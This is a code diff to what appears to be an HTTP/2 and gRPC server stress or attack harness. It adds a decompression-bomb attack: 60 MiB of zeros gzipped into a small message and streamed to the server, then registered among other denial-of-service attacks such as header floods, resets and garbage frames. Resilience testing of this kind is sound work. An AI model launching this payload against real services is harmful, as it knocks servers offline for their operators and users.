@@ -6,6 +6,7 @@ import os
 import random
 import socket
 import struct
+import zlib
 
 import http2
 from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
@@ -205,6 +206,21 @@ def table_sizes(attacker, connection, stop):
         stream += 2
 
 
+@again
+def compressed_messages(attacker, connection, stop):
+    """Messages within the first window that are a thousand times as long when they are unpacked (RFC 1952)."""
+    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
+    body = squeeze.compress(bytes(60 << 20)) + squeeze.flush()
+    body = b"\1" + struct.pack(">I", len(body)) + body
+    pieces = [body[at:at + 16384] for at in range(0, len(body), 16384)]
+    block = http2.call_headers(CHECK, more=[*attacker.more, (b"grpc-encoding", b"gzip")])
+    attacker.send(connection, http2.frame(HEADERS, END_HEADERS, 1, block))
+    for piece in pieces:
+        attacker.send(connection, http2.frame(DATA, END_STREAM * (piece is pieces[-1]), 1, piece))
+    while not stop.is_set() and connection.socket.recv(65536):
+        pass
+
+
 def hellos(attacker, stop):
     """Connections that are gone as soon as they are greeted."""
     while not stop.is_set():
@@ -244,4 +260,4 @@ def silence(attacker, stop):
 
 ATTACKS = {attack.__name__: attack for attack in (
     header_blocks, many_headers, indexed_headers, table_sizes, resets, provoked_resets, hang_ups, unread_answers, pings,
-    settings_frames, empty_frames, unknown_calls, partial_messages, crumbs, garbage, hellos, silence)}
+    settings_frames, empty_frames, unknown_calls, partial_messages, compressed_messages, crumbs, garbage, hellos, silence)}
